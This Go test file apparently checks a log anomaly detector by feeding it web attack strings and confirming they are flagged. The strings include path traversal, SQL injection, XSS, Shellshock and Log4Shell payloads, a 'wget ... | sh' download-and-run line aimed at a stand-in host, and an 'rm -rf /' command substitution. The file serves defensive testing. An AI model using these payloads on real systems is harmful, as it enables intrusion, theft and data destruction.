package detector_test

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
)

// Strings of an attack in fields in which such characters never stood.
func TestFieldAttack(t *testing.T) {
	rng := rand.New(rand.NewPCG(9, 9))
	web := watch(t, accessLog(14), 8000)
	for _, path := range []string{
		"/../../../../etc/passwd", "/products/%2e%2e%2f%2e%2e%2fetc/shadow", "/search?q=%27%20OR%201=1--", "/search?q=<script>alert(1)</script>",
		"/cgi-bin/;wget http://203.0.113.9/x.sh|sh", "/products/\\x16\\x03\\x01\\x02", "/" + strings.Repeat("A", 3000), "/.env", "/wp-login.php",
	} {
		web.flags(access(rng, "GET", path, "404", ""), "path ")
	}
	for _, agent := range []string{"() { :; }; /bin/bash -c 'cat /etc/passwd'", "${jndi:ldap://203.0.113.9:1389/a}", "sqlmap/1.8#stable (https://sqlmap.org) ' UNION SELECT NULL--"} {
		web.flags(access(rng, "GET", "/", "200", agent), "agent ")
	}
	shop := watch(t, shopLog(16), 8000)
	for _, user := range []string{`"admin' OR '1'='1"`, `"$(rm -rf /)"`, `"../../root"`} {
		shop.flags(changed("user", user), "user ")
	}
}

// The ending of a file's name is a value of its own: one that a place of files never had
// is news, however many names there are, and behind whatever query.
func TestFieldEnding(t *testing.T) {
	rng := rand.New(rand.NewPCG(9, 11))
	next := func() string {
		return fmt.Sprintf(`{"method":"GET","path":"/files/%s.%s?v=%d","status":200}`, letterWord(rng.IntN(1<<20)), pick(rng, "css", "js", "png", "woff2"), rng.IntN(1000))
	}
	w := watch(t, next, 6000)
	w.passes(`{"method":"GET","path":"/files/quarterly.png","status":200}`)
	w.flags(`{"method":"GET","path":"/files/quarterly.php","status":200}`, `php`)
	w.flags(`{"method":"GET","path":"/files/quarterly.php?v=7","status":200}`, `php`)
}

// Where few values stand, those that come back say what belongs there: an attack that was
// learned does not make another one with the same signs usual, in a field that is young too.
// One that is made of nothing but the signs of those right before it may pass.
func TestFieldAttacksOneAfterTheOther(t *testing.T) {
	rng := rand.New(rand.NewPCG(9, 12))
	page := func(path string) string {
		return fmt.Sprintf(`{"msg":"page served","path":"%s","session":"%08x","ms":%d}`, path, rng.Uint32(), 20+rng.IntN(60))
	}
	w := watch(t, func() string {
		return page(pick(rng, "/", "/cart", "/checkout", "/product/66VCHSJNUP", "/product/OLJCESPC7Z", "/product/2ZYFJ3GM2N", "/product/L9ECAV7KIM"))
	}, 500)
	attacks := []string{
		"/cart?q=%2e%2e%2f%2e%2e%2fwin.ini", "/cart?q=%00%0d%0aSet-Cookie:%20admin=1", "/product/66VCHSJNUP?id=1%20OR%201=1",
		"/checkout?q=%n%n%s%s%x%x%n", "/product/OLJCESPC7Z?q=%2e%2e%2f%2e%2e%2fetc%2fshadow", "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
		"/cart?q=%24%7Bjndi:ldap://203.0.113.9/a%7D", "/product/L9ECAV7KIM?id=1%27%20UNION%20SELECT%201",
	}
	var missed []string
	for _, attack := range attacks {
		w.goOn(100)
		if !w.see(page(attack)).Anomaly {
			missed = append(missed, attack)
		}
	}
	if len(missed) > len(attacks)/4 {
		t.Errorf("%d of %d attacks are not flagged behind those before them: %s", len(missed), len(attacks), missed)
	}
}

// The values bound to a statement's parameters, which people typed, are no words of the
// program: that someone looks for a storm lantern is no trouble.
func TestFieldOfBoundParameters(t *testing.T) {
	rng := rand.New(rand.NewPCG(51, 1))
	line := func(detail string) string {
		return fmt.Sprintf(`{"error_severity":"LOG","message":"duration: %d.%03d ms  execute <unnamed>: SELECT id FROM products WHERE words @@ $1","detail":%q,"pid":%d}`, 1+rng.IntN(400), rng.IntN(1000), detail, 1000+rng.IntN(9000))
	}
	w := watch(t, func() string {
		return line(fmt.Sprintf("parameters: $1 = '%s %s'", letters(rng, 3+rng.IntN(8)), letters(rng, 3+rng.IntN(8))))
	}, 4000)
	w.staysQuiet(4000, 1)
	w.passes(line("parameters: $1 = 'storm lantern, broken'"))
	w.flags(line("could not write block 71: no space left on device"))
}
